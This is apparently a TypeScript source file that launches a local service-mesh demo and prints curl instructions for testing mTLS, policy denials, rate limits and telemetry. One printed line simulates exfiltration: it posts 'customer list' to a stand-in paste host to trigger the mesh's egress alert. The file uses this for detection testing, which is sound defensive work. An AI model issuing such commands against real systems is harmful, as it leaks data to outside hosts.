import { constants } from 'node:fs';
import { type FileHandle, mkdir, open, readFile } from 'node:fs/promises';
import { join, relative, resolve } from 'node:path';
import { Agent } from 'undici';
import { CA_FILES, CertificateAuthority } from '../certs/authority.ts';
import { generateKeyPair, privateKeyToPem } from '../certs/x509.ts';
import { writeFileAtomic } from '../common/private-file.ts';
import { DEFAULT_TRUST_DOMAIN } from '../common/spiffe.ts';
import { defaultOperators } from '../control-plane/operators.ts';
import { statePaths } from '../control-plane/state.ts';
import { TokenStore } from '../control-plane/tokens.ts';
import { CHECKOUT } from './postern-bin.ts';
import {
  type Child,
  freePort,
  POSTERN_BIN,
  redisAnswers,
  startChild,
  startControlPlaneProcess,
  stopChild,
  waitUntilHealthy,
} from './processes.ts';
import { watchAlerts } from './up/alert-watcher.ts';
import { DEMO_ISSUER, type DemoIssuer, startDemoIssuer } from './up/demo-issuer.ts';
import { startTracePrinter } from './up/trace-printer.ts';

const NAMESPACE = 'shop';
/** Where `postern up` looks for a Redis for global rate limits. */
const LOCAL_REDIS_PORT = 6379;
const DEMO_APPS = resolve(CHECKOUT, 'demo/apps');
const TESTER = `spiffe://${DEFAULT_TRUST_DOMAIN}/ns/default/sa/tester`;

interface Workload {
  readonly name: string;
  readonly appPort: number;
  readonly inboundPort: number;
  readonly outboundPort: number;
  readonly adminPort: number;
}

/** The content of `path` if it is a regular file; undefined if missing, a symlink (not followed) or anything else. */
async function readRegularFile(path: string): Promise<string | undefined> {
  let handle: FileHandle;
  try {
    // O_NONBLOCK: a FIFO planted there must not hang `postern up`.
    handle = await open(path, constants.O_RDONLY | constants.O_NOFOLLOW | constants.O_NONBLOCK);
  } catch {
    return undefined;
  }
  try {
    return (await handle.stat()).isFile() ? await handle.readFile('utf8') : undefined;
  } finally {
    await handle.close();
  }
}

/**
 * A bootstrap token per workload, minted once and kept in STATE/tokens/NAME.token.
 * The file is rewritten privately on every run, so one left readable by others
 * (or replaced by a symlink) since comes back as a regular file with mode 0600.
 * Exported for tests.
 */
export async function tokenFile(
  store: TokenStore,
  stateDir: string,
  workload: string,
): Promise<string> {
  const file = join(stateDir, 'tokens', `${workload}.token`);
  const kept = (await readRegularFile(file))?.trim();
  await mkdir(join(stateDir, 'tokens'), { recursive: true });
  await writeFileAtomic(file, `${kept || (await store.create(workload, NAMESPACE, workload))}\n`);
  return file;
}

/**
 * A client certificate for the person at the keyboard, so curl can call sidecars
 * as a mesh identity: key.pem (0600), cert.pem and bundle.pem. Exported for tests.
 */
export async function testerCertificate(
  ca: CertificateAuthority,
  stateDir: string,
  client: { name: string; spiffeId: string } = { name: 'tester', spiffeId: TESTER },
): Promise<string> {
  const dir = join(stateDir, 'clients', client.name);
  await mkdir(dir, { recursive: true });
  const keys = await generateKeyPair();
  await writeFileAtomic(join(dir, 'key.pem'), privateKeyToPem(keys.privateKey));
  await writeFileAtomic(
    join(dir, 'cert.pem'),
    await ca.issue(keys.publicKey, { uris: [client.spiffeId], ttlMs: 24 * 3600 * 1000 }),
    0o644,
  );
  await writeFileAtomic(join(dir, 'bundle.pem'), ca.bundlePem, 0o644);
  return dir;
}

/**
 * The gateway's server certificate for the demo: issued by the dev CA for
 * localhost, so curl verifies it with the same bundle as everything else.
 * In production the operator brings one from their own CA (--tls-cert).
 */
export async function gatewayCertificate(
  ca: CertificateAuthority,
  stateDir: string,
): Promise<{ cert: string; key: string }> {
  const dir = join(stateDir, 'gateway');
  await mkdir(dir, { recursive: true });
  const keys = await generateKeyPair();
  const files = { cert: join(dir, 'cert.pem'), key: join(dir, 'key.pem') };
  await writeFileAtomic(files.key, privateKeyToPem(keys.privateKey));
  await writeFileAtomic(
    files.cert,
    await ca.issue(keys.publicKey, {
      uris: [],
      dnsNames: ['localhost'],
      ipAddresses: ['127.0.0.1'],
      ttlMs: 24 * 3600 * 1000,
    }),
    0o644,
  );
  return files;
}

/** The gateway's listener, for the instructions. */
interface GatewayPorts {
  readonly port: number;
  readonly adminPort: number;
}

/** The DNS name a workload's certificate carries, which curl is told to resolve to 127.0.0.1. */
const host = (w: Workload) => `${w.name}.${NAMESPACE}.svc.cluster.local`;

function instructions(
  policiesDir: string,
  stateDir: string,
  clientDir: string,
  operatorDir: string,
  cpPort: number,
  frontend: Workload,
  orders: Workload,
  redis: string | undefined,
  telemetry: UpTelemetry,
  gateway: GatewayPorts,
): string {
  const rel = (p: string) => relative(process.cwd(), p) || '.';
  const curl = (w: Workload, path: string, withCert = true) =>
    `curl -sS --cacert ${rel(join(clientDir, 'bundle.pem'))}${withCert ? ` --cert ${rel(join(clientDir, 'cert.pem'))} --key ${rel(join(clientDir, 'key.pem'))}` : ''} --resolve ${host(w)}:${w.inboundPort}:127.0.0.1 https://${host(w)}:${w.inboundPort}${path}`;
  const edge = (path: string, token: string | undefined, format = '') =>
    `curl -sS${format} --cacert ${rel(join(clientDir, 'bundle.pem'))}${token ? ` -H "authorization: Bearer ${token}"` : ''} https://localhost:${gateway.port}${path}`;
  const token = `$(curl -s '${DEMO_ISSUER}/token?sub=alice')`;
  const row = (w: Workload) =>
    `  ${w.name.padEnd(9)} app http://127.0.0.1:${w.appPort}  sidecar inbound https://127.0.0.1:${w.inboundPort}  outbound 127.0.0.1:${w.outboundPort}  admin http://127.0.0.1:${w.adminPort}`;
  return `
Postern local mesh is up (namespace ${NAMESPACE}; state in ${rel(stateDir)}; logs in ${rel(join(stateDir, 'logs'))}).
  control   https://127.0.0.1:${cpPort} (CA ${rel(join(statePaths(stateDir).ca, CA_FILES.cert))})
${row(frontend)}
${row(orders)}

You are ${TESTER} (client certificate in ${rel(clientDir)}).

Allowed: you -> frontend -> orders; orders' app reports the caller its sidecar proved (seenCaller):
  ${curl(frontend, '/')}

Denied by policy shop/orders-api, route list-orders (only frontend may list orders):
  ${curl(orders, '/orders')}

Denied by orders' sidecar when frontend asks for /admin (route admin denies everyone; frontend relays the 403):
  ${curl(frontend, '/admin')}

Refused at the TLS handshake (no client certificate):
  ${curl(frontend, '/', false)}

Rate limited (frontend's site route: 10 a minute per caller; this loop runs past it into 429):
  for i in $(seq 12); do ${curl(frontend, '/').replace('curl -sS', 'curl -sS -o /dev/null -w "%{http_code} %header{ratelimit}\\n"')}; done
${
  redis
    ? `  Global limits count in Redis at ${redis}, across every replica.`
    : `  No Redis answers on 127.0.0.1:${LOCAL_REDIS_PORT}: global limits are each replica's share (start redis-server to share them).`
}

The micro API gateway (clients outside the mesh): https://localhost:${gateway.port}, admin http://127.0.0.1:${gateway.adminPort}
It routes by the HTTPRoute in ${rel(join(policiesDir, 'gateway.yaml'))} to orders over mTLS as spiffe://cluster.local/ns/shop/sa/edge,
and admits end users by JWT from the demo identity provider ${DEMO_ISSUER} (/token?sub=NAME mints one).
  With a token:
    ${edge('/orders', token)}
  Without one (401):
    ${edge('/orders', undefined)}
  Over the limit (5 a minute per end user; this loop runs into 429):
    TOKEN=${token}; for i in $(seq 7); do ${edge('/orders', '$TOKEN', ' -o /dev/null -w "%{http_code}\n"')}; done

Metrics (Prometheus text) and the applied policy snapshot, per sidecar:
  curl -s http://127.0.0.1:${frontend.adminPort}/metrics
  curl -s http://127.0.0.1:${orders.adminPort}/config
What each sidecar applied (like istioctl proxy-status; operators only, this is the operator's certificate):
  curl -sS --cacert ${rel(join(operatorDir, 'bundle.pem'))} --cert ${rel(join(operatorDir, 'cert.pem'))} --key ${rel(join(operatorDir, 'key.pem'))} https://localhost:${cpPort}/v1/acks
${tracesLine(telemetry.traces)}
${
  telemetry.accessLog
    ? `Access logs (one JSON line per request): ${rel(join(stateDir, 'logs'))}/<workload>-access.log`
    : 'Access logs: off (--access-log off).'
}

Exfiltration alerts print here as the control plane raises them (detectors learn for ${demoLearning()} first; usage windows are ${DEMO_USAGE_WINDOW}). After that, try:
  frontend's app sending data outside the mesh (refused, and an egress alert):
    curl -sS -x http://127.0.0.1:${frontend.outboundPort} -d 'customer list' http://paste.example.com/upload
  you calling orders directly, a caller->route pair never seen before (403, and a novelty alert):
    ${curl(orders, '/orders')}
Edit the RoutePolicy YAML in ${rel(policiesDir)} while this runs: the sidecars pick up the change. Ctrl-C stops everything.
`;
}

/** What `postern up` does with traces: nothing, print them here, or export them to an OTLP endpoint. */
export type TracesMode = { kind: 'off' } | { kind: 'print' } | { kind: 'otlp'; endpoint: string };

interface UpTelemetry {
  readonly traces: TracesMode;
  readonly accessLog: boolean;
}

/**
 * The demo's detectors learn briefly and windows are short, so that alerts
 * show within a minute; POSTERN_DETECTION_LEARNING in up's environment
 * sets the learning period instead.
 */
const DEMO_LEARNING = '30s';
const demoLearning = () => process.env.POSTERN_DETECTION_LEARNING || DEMO_LEARNING;
const DEMO_USAGE_WINDOW = '5s';

function tracesLine(traces: TracesMode): string {
  switch (traces.kind) {
    case 'off':
      return "Traces: off. Run with --traces print to see each request's trace here, or --traces http://localhost:4318 to send them to Jaeger or any OTel collector (README, Telemetry).";
    case 'print':
      return "Traces: each request's trace prints here once it is complete (--traces print).";
    case 'otlp':
      return `Traces: exported over OTLP/HTTP to ${traces.endpoint} (metrics and logs too).`;
  }
}

/**
 * The OTEL_* variables the children get: print sends traces only, in OTLP
 * JSON, to the printer `up` runs; an endpoint gets every signal in the
 * default protobuf encoding. Off adds nothing (OTEL_* in up's own
 * environment still reach the children, as for any process).
 */
function otelEnv(traces: TracesMode, printerUrl: string | undefined): Record<string, string> {
  if (traces.kind === 'print')
    return {
      OTEL_EXPORTER_OTLP_ENDPOINT: printerUrl!,
      OTEL_EXPORTER_OTLP_PROTOCOL: 'http/json',
      OTEL_METRICS_EXPORTER: 'none',
      OTEL_LOGS_EXPORTER: 'none',
      OTEL_BSP_SCHEDULE_DELAY: '500',
    };
  if (traces.kind === 'otlp') return { OTEL_EXPORTER_OTLP_ENDPOINT: traces.endpoint };
  return {};
}

/** Waits until the tester's call to frontend (the first one `instructions` prints) answers 200. */
async function demoAnswers(
  clientDir: string,
  frontend: Workload,
  children: Child[],
): Promise<void> {
  const [cert, key, ca] = await Promise.all(
    ['cert.pem', 'key.pem', 'bundle.pem'].map((name) => readFile(join(clientDir, name), 'utf8')),
  );
  const tester = new Agent({ connect: { cert, key, ca, servername: host(frontend) } });
  try {
    await waitUntilHealthy(
      `https://127.0.0.1:${frontend.inboundPort}/`,
      children.find((c) => c.name === 'frontend app')!,
      20_000,
      tester,
    );
  } finally {
    await tester.close();
  }
}

/** Waits until the gateway's printed call with a token answers (its snapshot names orders' endpoints). */
async function gatewayAnswers(
  ca: string,
  gateway: GatewayPorts,
  token: string,
  child: Child,
): Promise<void> {
  const client = new Agent({ connect: { ca, servername: 'localhost' } });
  try {
    await waitUntilHealthy(`https://127.0.0.1:${gateway.port}/orders`, child, 20_000, client, {
      host: `localhost:${gateway.port}`,
      authorization: `Bearer ${token}`,
    });
  } finally {
    await client.close();
  }
}

/** An mTLS client as the operator identity `up` wrote, for the alert list. */
async function operatorAgent(operatorDir: string): Promise<Agent> {
  const [cert, key, ca] = await Promise.all(
    ['cert.pem', 'key.pem', 'bundle.pem'].map((name) => readFile(join(operatorDir, name), 'utf8')),
  );
  return new Agent({ connect: { cert, key, ca } });
}

/** `postern up`: every part as its own process, configured only by flags and POSTERN_* variables, as in a pod. */
export async function runUp(options: {
  policiesDir: string;
  stateDir: string;
  traces: TracesMode;
  accessLog: boolean;
}): Promise<number> {
  const stateDir = resolve(options.stateDir);
  const logs = join(stateDir, 'logs');
  await mkdir(logs, { recursive: true });
  const ca = await CertificateAuthority.loadOrCreate(statePaths(stateDir).ca, DEFAULT_TRUST_DOMAIN);
  const caFile = join(statePaths(stateDir).ca, CA_FILES.bundle);
  const store = new TokenStore(statePaths(stateDir).tokens, ca.trustDomain);
  const clientDir = await testerCertificate(ca, stateDir);
  // The control plane's default --operators identity, for the proxy-status view.
  const operatorDir = await testerCertificate(ca, stateDir, {
    name: 'operator',
    spiffeId: defaultOperators(ca.trustDomain)[0]!,
  });

  const children: Child[] = [];
  let issuer: DemoIssuer | undefined;
  const printer =
    options.traces.kind === 'print'
      ? await startTracePrinter((text) => process.stdout.write(text))
      : undefined;
  const otel = otelEnv(options.traces, printer?.url);
  let stopWatching: (() => void) | undefined;
  const stopAll = async () => {
    stopWatching?.();
    for (const child of [...children].reverse()) await stopChild(child);
    await printer?.close();
    await issuer?.close();
  };
  let stopping = false;
  const stopped = new Promise<number>((done) => {
    const onSignal = () => {
      if (stopping) return;
      stopping = true;
      process.stdout.write('\nstopping the mesh...\n');
      stopAll().then(() => done(0));
    };
    process.on('SIGINT', onSignal);
    process.on('SIGTERM', onSignal);
  });

  try {
    const cpPort = await freePort();
    const redis = (await redisAnswers(LOCAL_REDIS_PORT))
      ? `redis://127.0.0.1:${LOCAL_REDIS_PORT}`
      : undefined;
    const controlPlane = startControlPlaneProcess({
      policiesDir: resolve(options.policiesDir),
      stateDir,
      apiPort: cpPort,
      logFile: join(logs, 'control-plane.log'),
      env: {
        ...otel,
        POSTERN_DETECTION_LEARNING: demoLearning(),
        ...(redis ? { POSTERN_REDIS_URL: redis } : {}),
      },
    });
    children.push(controlPlane);
    const verifyCa = new Agent({ connect: { ca: ca.bundlePem } });
    await waitUntilHealthy(
      `https://127.0.0.1:${cpPort}/v1/trust-bundle`,
      controlPlane,
      20_000,
      verifyCa,
    );
    await verifyCa.close();

    const workloads: Workload[] = [];
    for (const name of ['orders', 'frontend']) {
      const workload = {
        name,
        appPort: await freePort(),
        inboundPort: await freePort(),
        outboundPort: await freePort(),
        adminPort: await freePort(),
      };
      workloads.push(workload);
      children.push(
        startChild(
          `${name} app`,
          [join(DEMO_APPS, `${name}.ts`)],
          {
            PORT: String(workload.appPort),
            // The app's egress goes through its sidecar, as iptables would send it in a pod.
            HTTP_PROXY: `http://127.0.0.1:${workload.outboundPort}`,
            NO_PROXY: '',
          },
          join(logs, `${name}-app.log`),
        ),
      );
      const sidecar = startChild(
        `${name} sidecar`,
        [POSTERN_BIN, 'sidecar'],
        {
          POSTERN_CONTROL_PLANE: `https://127.0.0.1:${cpPort}`,
          POSTERN_CA_FILE: caFile,
          POSTERN_BOOTSTRAP_TOKEN_FILE: await tokenFile(store, stateDir, name),
          POSTERN_APP_PORT: String(workload.appPort),
          POSTERN_WORKLOAD: name,
          POSTERN_NAMESPACE: NAMESPACE,
          POSTERN_SERVICE_ACCOUNT: name,
          POSTERN_LABELS: `app=${name}`,
          POSTERN_INBOUND_HOST: '127.0.0.1',
          POSTERN_INBOUND_PORT: String(workload.inboundPort),
          POSTERN_OUTBOUND_PORT: String(workload.outboundPort),
          POSTERN_ADMIN_PORT: String(workload.adminPort),
          POSTERN_USAGE_WINDOW: DEMO_USAGE_WINDOW,
          POSTERN_ACCESS_LOG: options.accessLog ? join(logs, `${name}-access.log`) : 'off',
          ...otel,
        },
        join(logs, `${name}-sidecar.log`),
      );
      children.push(sidecar);
    }
    for (const workload of workloads) {
      const sidecar = children.find((c) => c.name === `${workload.name} sidecar`)!;
      await waitUntilHealthy(
        `http://127.0.0.1:${workload.adminPort}/healthz/ready`,
        sidecar,
        20_000,
      );
    }
    const [orders, frontend] = workloads as [Workload, Workload];
    issuer = await startDemoIssuer();
    const gateway = { port: await freePort(), adminPort: await freePort() };
    const serverCert = await gatewayCertificate(ca, stateDir);
    const gatewayChild = startChild(
      'gateway',
      [POSTERN_BIN, 'gateway'],
      {
        POSTERN_CONTROL_PLANE: `https://127.0.0.1:${cpPort}`,
        POSTERN_CA_FILE: caFile,
        POSTERN_BOOTSTRAP_TOKEN_FILE: await tokenFile(store, stateDir, 'edge'),
        POSTERN_WORKLOAD: 'edge',
        POSTERN_NAMESPACE: NAMESPACE,
        POSTERN_SERVICE_ACCOUNT: 'edge',
        POSTERN_LABELS: 'app=edge',
        POSTERN_LISTEN_HOST: '127.0.0.1',
        POSTERN_LISTEN_PORT: String(gateway.port),
        POSTERN_ADMIN_PORT: String(gateway.adminPort),
        POSTERN_TLS_CERT: serverCert.cert,
        POSTERN_TLS_KEY: serverCert.key,
        POSTERN_USAGE_WINDOW: DEMO_USAGE_WINDOW,
        POSTERN_ACCESS_LOG: options.accessLog ? join(logs, 'edge-access.log') : 'off',
        ...otel,
      },
      join(logs, 'gateway.log'),
    );
    children.push(gatewayChild);
    await waitUntilHealthy(
      `http://127.0.0.1:${gateway.adminPort}/healthz/ready`,
      gatewayChild,
      20_000,
    );
    // Its own subject, so the probe spends nothing of alice's limit.
    await gatewayAnswers(ca.bundlePem, gateway, await issuer.token('postern-up'), gatewayChild);
    // The first printed call must work the moment it is printed: a ready
    // sidecar does not mean its app listens yet, nor that frontend's sidecar
    // has had the snapshot that tells it where orders is.
    await demoAnswers(clientDir, frontend, children);
    process.stdout.write(
      instructions(
        resolve(options.policiesDir),
        stateDir,
        clientDir,
        operatorDir,
        cpPort,
        frontend,
        orders,
        redis,
        options,
        gateway,
      ),
    );
    const operator = await operatorAgent(operatorDir);
    const unwatch = watchAlerts(`https://127.0.0.1:${cpPort}`, operator, (line) =>
      process.stdout.write(line),
    );
    stopWatching = () => {
      unwatch();
      void operator.close();
    };
  } catch (error) {
    process.stderr.write(`postern up: ${(error as Error).message}; see the logs in ${logs}\n`);
    await stopAll();
    return 1;
  }
  // A child that dies takes the mesh down with it, loudly, rather than leave half a mesh.
  for (const child of children) {
    void child.exited.then((code) => {
      if (stopping) return;
      process.stderr.write(
        `postern up: ${child.name} exited (code ${code}); stopping. Logs: ${logs}\n`,
      );
      process.kill(process.pid, 'SIGTERM');
    });
  }
  return stopped;
}
